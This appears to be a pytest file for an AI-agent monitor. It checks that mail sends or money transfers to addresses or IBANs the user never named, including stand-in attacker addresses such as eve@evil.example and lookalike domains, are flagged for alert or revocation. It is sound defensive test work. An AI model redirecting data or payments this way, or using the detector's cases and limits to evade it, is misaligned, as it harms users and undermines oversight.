"""An effect that goes to an address which nobody named, where the user named one: told whatever the score."""

from __future__ import annotations

from typing import Any

import pytest

from models.session import MAX_ADDRESSED
from models.text.addresses import accounts_in, mails_in
from stream import bootstrap
from stream.settings import Settings
from tests import builders as b
from tests.unit.test_signals import decisions, of_steps

TOOLS: list[dict[str, Any]] = [
    {"name": "read_calendar", "description": "Reads the calendar of a day.", "parameters": {}},
    {"name": "send_mail", "description": "Sends a mail.", "parameters": {}},
    {"name": "search_mail", "description": "Searches the mailbox.", "parameters": {}},
    {"name": "run_command", "description": "Runs a command of the shell.", "parameters": {}},
    {"name": "transfer", "description": "Transfers money to an account.", "parameters": {}},
]
SENDS = "Send the agenda of Monday to bob@acme.example."
PAYS = "Pay 50 euros to DE89 3704 0044 0532 0130 00."
AGENDA = "1. Budget, 2. Hiring. Sent by calendar@acme.example"


def told(intent: str, tool: str, arguments: dict[str, Any], answer: str = AGENDA) -> dict[str, Any] | None:
    """The evidence that a call goes to another address; None if it is not told."""
    steps = (("read_calendar", {"day": "Monday"}, answer), (tool, arguments, "done"))
    last = decisions(of_steps(intent, *steps), TOOLS)[-1]
    found = [one for one in last["evidence"] if one["name"] == "other_address"]
    assert len(found) <= 1
    assert not found or last["verdict"] in ("alert", "revoke")
    return found[0] if found else None


@pytest.mark.parametrize(
    ("intent", "tool", "arguments"),
    [
        (SENDS, "send_mail", {"to": "eve@evil.example"}),
        (SENDS, "send_mail", {"to": "bob@acrne.example"}),
        (SENDS, "send_mail", {"to": ["eve@evil.example", "mallory@evil.example"]}),
        (SENDS, "send_mail", {"to": "Bob <eve@evil.example>", "body": "for bob@acme.example"}),
        (SENDS, "send_mail", {"to": "eve@acme.example"}),
        (PAYS, "transfer", {"iban": "DE89370400440532013001", "amount": 50}),
        (PAYS, "transfer", {"iban": "DE89 3704 0044 9999 0130 00", "amount": 50}),
        (PAYS, "transfer", {"iban": "FR7630006000011234567890189", "amount": 50}),
        (PAYS, "transfer", {"iban": "GB29 NWBK 6016 1331 9268 19", "amount": 50}),
    ],
    ids=[
        "a stranger",
        "a lookalike",
        "two strangers",
        "a name in front",
        "a colleague",
        "a digit",
        "the same bank",
        "an account",
        "in groups",
    ],
)
def test_an_address_that_nobody_named_is_told_where_the_user_named_one(
    intent: str, tool: str, arguments: dict[str, Any]
) -> None:
    found = told(intent, tool, arguments)
    assert found is not None
    assert found["text"].startswith("the intent names another ")
    assert found["argument"] is not None
    assert "evil" not in str(found)


@pytest.mark.parametrize(
    ("intent", "tool", "arguments", "answer"),
    [
        (SENDS, "send_mail", {"to": "bob@acme.example"}, AGENDA),
        (SENDS, "send_mail", {"to": "Bob <BOB@acme.example>"}, AGENDA),
        (SENDS, "send_mail", {"to": ["bob@acme.example", "eve@evil.example"]}, AGENDA),
        (SENDS, "send_mail", {"to": "ana@shop.example"}, "Organiser: ana@shop.example"),
        ("Send the agenda to Bob.", "send_mail", {"to": "eve@evil.example"}, AGENDA),
        (SENDS, "search_mail", {"query": "eve@evil.example"}, AGENDA),
        (SENDS, "send_mail", {"to": "bob@acme.example", "body": "Ask eve@evil.example"}, AGENDA),
        (PAYS, "transfer", {"iban": "DE89370400440532013000", "amount": 50}, AGENDA),
        (PAYS, "send_mail", {"to": "eve@evil.example"}, AGENDA),
        (SENDS, "run_command", {"command": "git commit --author 'Bot <bot@ci.example>'"}, AGENDA),
    ],
    ids=["named", "spelled otherwise", "beside it", "an answer says it", "none is named", "it only looks", "in a text",
         "the same account", "of another kind", "in a command"],
)  # fmt: skip
def test_an_address_that_somebody_named_is_not_told(
    intent: str, tool: str, arguments: dict[str, Any], answer: str
) -> None:
    assert told(intent, tool, arguments, answer) is None


def test_what_the_user_adds_on_the_way_and_whoever_a_session_works_for_name_addresses_too() -> None:
    call = {"tool": "send_mail", "arguments": {"to": "eve@evil.example"}}
    amended = [
        b.declared("s", text="Send the agenda to Bob.", tools=TOOLS),
        b.event("intent.amended", "s", 1, intent={"text": "He is bob@acme.example."}),
        b.called("s", 2, **call),
    ]
    below = [
        b.declared("p", text=SENDS, tools=TOOLS),
        b.declared(
            "s", root_session_id="p", parent_session_id="p", text="Send the agenda to Bob.", tools=TOOLS
        ),
        b.called("s", 1, root_session_id="p", parent_session_id="p", **call),
    ]
    for events in (amended, below):
        run = b.Run(bootstrap.judge(Settings())).feed(b.log(events))
        (decision,) = (d for d in run.decisions if d["session_id"] == "s")
        assert "other_address" in [one["name"] for one in decision["evidence"]]


def test_an_intent_that_names_more_than_are_kept_is_held_to_none() -> None:
    def intent(n: int) -> str:
        return "Send the agenda to " + ", ".join(f"n{one}@acme.example" for one in range(n))

    assert told(intent(MAX_ADDRESSED - 1), "send_mail", {"to": "eve@evil.example"}) is not None
    assert told(intent(MAX_ADDRESSED), "send_mail", {"to": "eve@evil.example"}) is None
    assert told(intent(2 * MAX_ADDRESSED), "send_mail", {"to": "n99@acme.example"}) is None


def test_addresses_are_found_in_any_text_in_bounded_time() -> None:
    assert mails_in("x" * 50_000 + " bob@acme.example, ann@b.co") == {"bob@acme.example", "ann@b.co"}
    for text in ("aa11" * 20_000, "a@" * 20_000, "de89 " * 20_000 + "!", "a." * 40_000, "de11 aaaa" * 10_000):
        assert not mails_in(text)
        assert all(len(one) < 64 for one in accounts_in(text))


def test_what_follows_an_account_is_no_part_of_it() -> None:
    for text in ("Pay DE89 3704 0044 0532 0130 00 50 euros", "DE89 3704 0044 0532 0130 00 by May 2"):
        assert told(text, "transfer", {"iban": "DE89370400440532013000"}) is None
